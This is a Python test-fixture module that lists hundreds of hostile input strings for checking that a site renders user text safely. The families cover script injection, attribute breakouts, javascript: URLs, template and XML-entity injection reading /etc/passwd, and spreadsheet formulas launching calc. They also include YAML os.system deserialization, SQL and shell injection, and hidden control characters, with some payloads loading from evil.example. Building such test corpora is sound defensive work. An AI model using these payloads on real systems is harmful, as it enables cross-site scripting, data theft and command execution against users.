"""Texts that try to run code, to leave their place, to draw from elsewhere or to cheat the eye, wherever people's words are shown.

`RUN` is what each of them tries to do; a browser in which it happened has `window.__hit`. `LOOSE` are those that a file may hold and a page
must show; `REFUSED` hold signs that no file may hold, so that no page ever sees them.
"""

from __future__ import annotations

from collections.abc import Iterable

RUN = "window.__hit=1"

_HTML = (
    "<script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script src=//evil.example/x.js></script>", "</script><script>RUN</script>",
    "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</style><script>RUN</script>", "<!--><script>RUN</script>-->",
    "<scr<script>ipt>RUN</script>", "<script\n>RUN</script\n>", "<script x>RUN", "<script type=module>RUN</script>",
    "<img src=x onerror=RUN>", "<img/src=x/onerror=RUN>", "<img src='x' onerror='RUN'>", '<img src=x onerror="RUN"//', "<IMG SRC=x ONERROR=RUN>",
    "<image src=x onerror=RUN>", "<img src=//evil.example/pixel.gif>", "<img srcset=//evil.example/p.gif>",
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x>", "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=RUN>'/></svg>", "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>", "<math><mi//xlink:href='javascript:RUN'>x</mi></math>",
    "<body onload=RUN>", "<body onpageshow=RUN>", "<iframe src='javascript:RUN'></iframe>", "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<object data='javascript:RUN'></object>", "<embed src='javascript:RUN'>", "<form action='javascript:RUN'><button>x</button></form>",
    "<button formaction='javascript:RUN'>x</button>", "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>", "<video src=x onerror=RUN>", "<audio src=x onerror=RUN>", "<video><source onerror=RUN></video>",
    "<marquee onstart=RUN>x</marquee>", "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<base href=//evil.example/>",
    "<template><script>RUN</script></template>", "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<div style='width:expression(RUN)'>x</div>",
    "<x onclick=RUN tabindex=1 autofocus onfocus=RUN>x</x>", "<plaintext>", "<xmp><script>RUN</script></xmp>", "<table background='javascript:RUN'>",
    "<isindex type=image src=1 onerror=RUN>", "<button popovertarget=x onclick=RUN>x</button>", "<p slot=x is=x-y>", "<a name=body id=__proto__>x</a>",
)  # fmt: skip
_ATTRIBUTE = (
    '" onmouseover="RUN" x="', "' onmouseover='RUN' x='", '" autofocus onfocus="RUN" x="', "' autofocus onfocus='RUN' x='",
    '"><script>RUN</script>', "'><script>RUN</script>", '"><img src=x onerror=RUN>', "` onload=RUN `", '" style="animation-name:x" onanimationstart="RUN',
    '"/><svg onload=RUN>', "x onerror=RUN ", "&quot; onload=RUN &quot;", "&#34;&gt;&lt;script&gt;RUN&lt;/script&gt;", '\\"><script>RUN</script>',
    "--><script>RUN</script>", "*/RUN/*", "');RUN;//", "${RUN}", "`${RUN}`", "</option></select><script>RUN</script>",
)  # fmt: skip
_ADDRESS = (
    "javascript:RUN", "JaVaScRiPt:RUN", "java&#115;cript:RUN", "javascript&colon;RUN", "jav&#x0A;ascript:RUN", "javascript://%0aRUN",
    "<a href='javascript:RUN'>x</a>", "<a href=' java&Tab;script:RUN'>x</a>", "<a href='java\nscript:RUN'>x</a>", "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==", "vbscript:RUN", "//evil.example/x", "https://evil.example/\"onclick=\"RUN",
    "https://board.example@evil.example/", "https://user:pass@evil.example/", "https://bоard.example/", "https://xn--bard-8cd.example/", "https:evil.example",
    "..\\..\\evil.example", "../../../../etc/passwd", "%22%3E%3Cscript%3ERUN%3C/script%3E", "blob:https://evil.example/x", "file:///etc/passwd",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:RUN)", "[x](<javascript:RUN>)", "![x](//evil.example/p.gif){: onerror=RUN }", "[x](https://evil.example){: onclick=RUN }",
    "<javascript:RUN>", "<https://evil.example>", "[x]\n\n[x]: javascript:RUN", "[x][y]\n\n[y]: https://evil.example", "```html\n<script>RUN</script>\n```",
    '--8<-- "/etc/passwd"', "# x {: onclick=RUN }", "<div markdown><script>RUN</script></div>", '!!! note "<script>RUN</script>"\n    x', "www.evil.example",
    "@everyone #1 GH-1", "- [ ] x\n- [x] y", "| a | b |\n|---|---|\n| <img src=x onerror=RUN> | x |", "<!-- wishlight:review -->", "::: x\nRUN\n:::", "[^1]: <svg onload=RUN>",
    "%%{init: {'securityLevel':'loose'}}%%", "$$\\href{javascript:RUN}{x}$$", "*[x]: <script>RUN</script>",
)  # fmt: skip
_TEMPLATE = (
    "{{ 7*7 }}<script>RUN</script>", "{% include '/etc/passwd' %}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{# x #}", "{% raw %}",
    "${{ github.token }}", "#{RUN}", "<%= RUN %>", "@@PATH@@", "%(x)s {0} {title}", "$title $$", "<?php RUN ?>", "{{constructor.constructor('RUN')()}}", "%s%s%n",
)  # fmt: skip
_FEED = (
    "]]><script>RUN</script>", "<![CDATA[<script>RUN</script>]]>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>", "&e; &lt; &#0; &#xD800;", "&amp;lt;script&amp;gt;RUN", "</entry><entry><title>x</title></entry>",
    "</summary></feed>", "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:evil", "x\n ATTACH:https://evil.example/x", "x\\nURL:https://evil.example", ";X-EVIL=1:x",
    ";;,,\\,\\;\\\\", '"},"evil":{"a":"', "</script><!--", "<!--<script>", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", '"}</script><script>RUN</script>',
)  # fmt: skip
_CELL = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "\u3000=1+1", " =1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")', '"=1+1","=2"', "=1\n=2", "x;=1+1",
)  # fmt: skip
_OTHER = (
    "!!python/object/apply:os.system [id]", "&a [*a, *a]", "- x: {y: [z", "<<: *x", "key: value # comment", "'; DROP TABLE wishes;--", "$(id) `id` | id ; id", "\\",
    "\\x1b[31mred", "\u00a0 \u3000<b>", "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "Ｗ－２６０３０２", "а́̂̃̄̅̆̇̈" * 8, "👩‍👩‍👧‍👦🏳️‍🌈" * 6, "﷽" * 12, "i̇ ſ ß K Å",
    "长" * 290, "a" * 290, "<b>" * 90, "&" * 250, "NULL", "undefined", "NaN", "constructor", "__proto__", "hasOwnProperty", "true", "0x1F", "1e400",
)  # fmt: skip
_HIDDEN = (
    "\x00", "灯\x00坏了", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m", "\x08\x08\x08ok", "a\tb", "a\rb", "x\r\nATTACH:https://evil.example", "\u202e<script>RUN</script>",
    "\u2066\u2069\u202dabc\u202c", "a\u200bb\ufeffc", "\u2028RUN//\u2029", "\ufffe", "java\u00adscript:RUN", "\u2060x", "\x7f", "\x85x",
)  # fmt: skip


def _load(texts: Iterable[str]) -> tuple[str, ...]:
    return tuple(text.replace("RUN", RUN) for text in texts)


FAMILIES = {
    "html": _load(_HTML),
    "attribute": _load(_ATTRIBUTE),
    "address": _load(_ADDRESS),
    "markdown": _load(_MARKDOWN),
    "template": _load(_TEMPLATE),
    "feed": _load(_FEED),
    "cell": _load(_CELL),
    "other": _load(_OTHER),
}
LOOSE = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
REFUSED = _load(_HIDDEN)
